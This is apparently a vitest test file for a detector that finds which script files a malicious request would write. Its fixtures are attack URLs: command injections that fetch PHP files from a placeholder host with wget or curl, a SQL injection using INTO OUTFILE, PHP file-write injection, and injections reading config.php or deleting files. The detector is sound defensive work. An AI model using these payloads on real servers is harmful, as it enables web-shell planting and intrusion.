import { expect, test } from 'vitest';
import { writtenScripts } from './written-scripts.ts';

test.each([
  ['/ping.php?host=1;wget+http://198.51.100.66/c.txt+-O+/var/www/html/img/cache.php', ['cache.php']],
  ['/ping.php?host=1;curl%20-o%20lib/x.php%20http://198.51.100.66/x', ['x.php']],
  ['/a.cgi?x=%7Cecho%20PD9waHAg%7Cbase64%20-d%3Eupd.php', ['upd.php']],
  ['/a.php?x=;cd%20/var/www;wget%20http://198.51.100.66/s.php', ['s.php']],
  ["/i.php?id=1%27%20union%20select%201,'x'%20into%20outfile%20'/var/www/html/q.php'--", ['q.php']],
  ['/i.php?f=%3C?php%20file_put_contents(%27../up/z.phtml%27,$x);', ['z.phtml']],
  ['/i.php?f=;mv%20/tmp/a.jpg%20/srv/www/a.php', ['a.php']],
])('%s writes %j', (target, names) => expect(writtenScripts(target)).toEqual(names));

test.each([
  '/ping.php?host=1;cat%20config.php',
  '/ping.php?host=1;ls%20-la%20%3E/dev/null',
  '/list.php?sort=name&page=detail.php',
  '/a.php?x=;rm%20-f%20b.php',
])('%s writes nothing', (target) => expect(writtenScripts(target)).toEqual([]));
